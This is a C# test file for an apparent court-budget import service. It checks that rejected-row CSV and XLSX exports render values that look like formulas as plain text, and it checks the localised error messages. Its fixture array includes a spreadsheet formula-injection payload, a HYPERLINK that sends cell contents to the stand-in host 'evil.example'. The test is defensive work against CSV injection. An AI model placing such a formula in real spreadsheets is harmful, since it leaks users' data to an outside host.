using System.Net.Http.Json;
using System.Text;
using CourtMetrics.Tests.Ingest;
using CourtMetrics.Tests.Support;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;

namespace CourtMetrics.Tests.Exports;

/// <summary>The rejected rows repeat a source's raw values: opened in a spreadsheet, none of them runs as a formula.</summary>
public sealed class RejectedRowsExportTests(DemoIngestApp app) : IClassFixture<DemoIngestApp>
{
    private sealed record Status(Guid Id, Outcome? Report);
    private sealed record Outcome(bool Written, long RowsRejected, bool HasRejectedRows);
    private sealed record Refusal(Dictionary<string, string[]> Errors);

    private static readonly string[] Formulas = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")", "+1", "-2+3", "@SUM(1)"];

    [Fact]
    public async Task Source_values_that_look_like_formulas_come_out_as_text_in_the_csv_of_every_language_and_in_the_xlsx()
    {
        var client = await app.AdministratorClientAsync();
        var id = await ImportAsync(client);

        var english = await client.GetStringAsync($"/api/imports/{id}/rejected.csv");
        var russian = await client.GetStringAsync($"/api/imports/{id}/rejected.csv?lang=ru");
        var xlsx = await client.GetByteArrayAsync($"/api/imports/{id}/rejected.xlsx");

        Assert.StartsWith("line,reasons,source_system,source_id,court,", english);
        Assert.StartsWith("line;reasons;source_system;source_id;court;", russian);
        foreach (var formula in Formulas)
        {
            var quoted = "'" + formula.Replace("\"", "\"\"");
            Assert.Contains(quoted, english);
            Assert.Contains(quoted, russian);
        }
        using var workbook = SpreadsheetDocument.Open(new MemoryStream(xlsx), false);
        var sheet = workbook.WorkbookPart!.WorksheetParts.Single().Worksheet;
        Assert.Empty(sheet.Descendants<CellFormula>());
        var texts = sheet.Descendants<Cell>().Where(c => c.DataType?.Value == CellValues.InlineString).Select(c => c.InnerText).ToList();
        Assert.All(Formulas, formula => Assert.Contains(formula, texts));
    }

    [Fact]
    public async Task A_wrong_separator_or_language_is_a_400_naming_the_field_in_the_readers_language()
    {
        var client = await app.AdministratorClientAsync();
        var id = await ImportAsync(client);

        var response = await client.GetAsync($"/api/imports/{id}/rejected.csv?csv=pipe");
        var russian = await client.GetAsync($"/api/imports/{id}/rejected.csv?csv=pipe&lang=ru");
        var language = await client.GetAsync($"/api/imports/{id}/rejected.csv?lang=de");

        Assert.Equal(System.Net.HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Equal("csv 'pipe' is not comma or semicolon.", (await response.Content.ReadFromJsonAsync<Refusal>())!.Errors["csv"][0]);
        Assert.Equal("csv 'pipe' — не comma и не semicolon.", (await russian.Content.ReadFromJsonAsync<Refusal>())!.Errors["csv"][0]);
        Assert.Equal("lang 'de' is not one of en, kk, ru.", (await language.Content.ReadFromJsonAsync<Refusal>())!.Errors["lang"][0]);
    }

    /// <summary>A budget-lines file whose bad rows carry formulas in text fields, imported accepting the valid rows.</summary>
    private static async Task<Guid> ImportAsync(HttpClient client)
    {
        var csv = new StringBuilder("source_system,source_id,court,fiscal_year,item,allocated,spent,booked_on\n");
        for (var i = 0; i < Formulas.Length; i++)
            csv.Append($"inj,\"{Formulas[i].Replace("\"", "\"\"")}\",NOPE-{i},2025,personnel,100,,2025-01-01\n");
        var started = await client.PostAsync("/api/imports?kind=budget-lines&acceptValid=true&fileName=inj.csv",
            new StringContent(csv.ToString(), Encoding.UTF8, "text/csv"));
        var status = await started.Content.ReadFromJsonAsync<Status>();
        var done = await Eventually.ValueAsync(async () =>
            await client.GetFromJsonAsync<Status>($"/api/imports/{status!.Id}") is { Report: not null } s ? s : null);
        Assert.Equal((Formulas.Length, true), ((int)done.Report!.RowsRejected, done.Report.HasRejectedRows));
        return done.Id;
    }
}
